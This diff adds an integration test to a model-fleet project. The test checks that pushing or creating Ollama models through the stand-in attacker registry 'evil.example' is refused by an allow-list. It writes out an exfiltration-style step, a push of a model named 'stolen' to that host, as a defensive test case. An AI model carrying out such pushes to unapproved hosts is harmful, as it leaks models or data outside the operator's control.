@@ -11,8 +11,11 @@ from pathlib import Path
 import httpx
 import ollama
 import pytest
+from corral.protocol.names import key_of
 from corral.runtime.natsserver import NatsServer
 from corral.up import FleetOptions, LocalFleet, default_sims
+
+from tests.integration.fleet_helpers import until
 
 pytestmark = pytest.mark.integration
 
@@ -69,3 +72,21 @@ async def test_pulls_only_from_allowed_registries_with_keys_off(fleet: LocalFlee
     assert "registry '10.0.0.1:8080' is not allowed" in pulled.value.error
     assert "registry 'evil.example' is not allowed" in auto.value.error
     assert unknown.value.status_code == 404
+
+
+async def test_push_and_create_reach_only_allowed_registries(fleet: LocalFleet) -> None:
+    """The agents hold the rule too (they are the ones that fetch and send), so it covers push and
+    create, and any sender: a model copied under a foreign host cannot be pushed there."""
+    cert = fleet.gateway.settings.tls_cert  # type: ignore[union-attr]
+    async with ollama.AsyncClient(host=fleet.url, verify=ssl.create_default_context(cafile=cert)) as c:
+        await c.pull("llama3.2")
+        await c.copy("llama3.2", "evil.example/library/stolen")
+        view = fleet.gateway.fleet  # type: ignore[union-attr]
+        await until(fleet, lambda: bool(view.with_model(key_of("evil.example/library/stolen") or "")))
+        with pytest.raises(ollama.ResponseError) as pushed:
+            await c.push("evil.example/library/stolen", insecure=True)
+        with pytest.raises(ollama.ResponseError) as created:
+            await c.create("mine", from_="evil.example/library/other")
+    for refused in (pushed.value, created.value):
+        assert refused.status_code == 400
+        assert "registry 'evil.example' is not allowed" in refused.error
